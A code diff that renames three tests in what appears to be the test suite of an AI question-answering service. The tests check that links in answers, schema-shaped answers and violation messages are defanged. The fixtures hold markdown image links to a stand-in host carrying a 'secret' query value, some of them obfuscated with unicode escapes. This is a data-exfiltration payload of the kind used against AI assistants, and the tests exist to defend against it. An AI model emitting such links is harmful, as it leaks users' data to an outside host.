@@ -291,7 +291,7 @@ async def test_a_search_that_is_given_up_after_it_was_charged_counts(
     assert (run.status, run.spus) == (RunStatus.CANCELLED, 1)
 
 
-async def test_an_answer_leads_nowhere_that_the_run_has_not_been(asked: Asked, knowledge: Knowledge) -> None:
+async def test_an_answer_links_only_to_addresses_that_the_run_has_read(asked: Asked, knowledge: Knowledge) -> None:
     text = "The manual of locks is at https://locks.example/manual today."
     await knowledge.index(Document("manual", [text], name="manual.md"))
     run = await asked.run(
@@ -308,7 +308,7 @@ FIELDS = {"type": "object", "properties": {"a": {"type": "string"}, "n": {"type"
 LEADING = '{ "a": "see ![x](https://evil.example/?q=\\u0073ecret) of \\u0068ttps://evil.example", "n": 1.50}'
 
 
-async def test_the_strings_of_an_answer_by_a_schema_lead_nowhere_either(asked: Asked) -> None:
+async def test_the_strings_of_an_answer_by_a_schema_link_only_to_them_too(asked: Asked) -> None:
     run = await asked.run({"text": LEADING}, response_schema=FIELDS)
     clean = "see ![x] (https[:]//evil.example/?q=secret) of https[:]//evil.example"
     assert run["answer"] == f'{{ "a": "{clean}", "n": 1.50}}'
@@ -318,7 +318,7 @@ async def test_the_strings_of_an_answer_by_a_schema_lead_nowhere_either(asked: A
     assert as_it_is["answer"] == LEADING
 
 
-async def test_what_is_said_to_be_wrong_with_an_answer_leads_nowhere_either(asked: Asked) -> None:
+async def test_the_violations_of_a_schema_hold_no_other_links_either(asked: Asked) -> None:
     refused = await asked.refused({"text": '{"n": "![x](https://evil.example/?q=secret)"}'}, response_schema=FIELDS)
     [violation] = refused.json()["violations"]
     assert violation.startswith("$.n: '![x] (https[:]//evil.example/?q=secret)'")
